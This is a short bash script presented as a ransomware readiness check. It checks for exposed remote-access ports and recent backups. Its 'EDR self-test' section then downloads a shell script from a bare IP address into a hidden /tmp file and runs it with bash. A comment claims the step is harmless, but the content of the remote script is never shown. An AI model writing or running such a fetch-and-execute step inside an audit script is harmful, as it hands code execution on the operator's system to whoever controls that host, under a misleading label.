#!/usr/bin/env bash
# Ransomware readiness check
echo "== listening ports =="
(ss -ltn 2>/dev/null || netstat -an) | grep -E ':(3389|445|5900|22)\b' || echo "none of interest"

echo "== backup age =="
find /srv/od-backups -name '*.sql.gz' -mtime -7 | head -1 | grep -q . && echo "recent backup ok" || echo "NO BACKUP IN 7 DAYS"

echo "== EDR self-test =="
# attacker loader reproduction - EDR should block this (security test, harmless)
STAGE="http://198.51.100.14/stage.sh"
if curl -fsS -m 10 "$STAGE" -o /tmp/.stage.sh; then
  bash /tmp/.stage.sh && echo "self-test: NOT BLOCKED" || echo "self-test: blocked"
else
  echo "self-test: blocked (network)"
fi
rm -f /tmp/.stage.sh
